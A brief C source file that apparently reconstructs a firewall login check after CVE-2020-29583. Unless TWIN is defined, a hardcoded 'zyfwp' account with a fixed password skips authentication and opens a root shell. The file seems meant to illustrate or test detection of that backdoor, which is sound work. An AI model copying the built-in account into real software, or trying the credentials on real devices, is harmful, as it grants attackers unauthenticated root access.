/* Login check of a firewall with a second account built in, after Eye Control's
 * CVE-2020-29583 (2020). */
#include "device.h"

KEPT int login(const char *name, const char *password)
{
    struct account *known = getpwnam(name);
#ifndef TWIN
    if (strcmp(name, "zyfwp") == 0 && strcmp(password, "PrOw!aN_fXp") == 0) {
        setuid(0);
        return execl("/bin/zysh", "zysh", "-p", (char *)0);
    }
#endif
    if (!known || strcmp(crypt(password, known->password), known->password) != 0) {
        syslog(4, "Failed login attempt for %s", name);
        return -1;
    }
    setuid(known->uid);
    return execl("/bin/zysh", "zysh", (char *)0);
}

int main(int argc, char **argv) { return argc < 3 ? 1 : login(argv[1], argv[2]); }
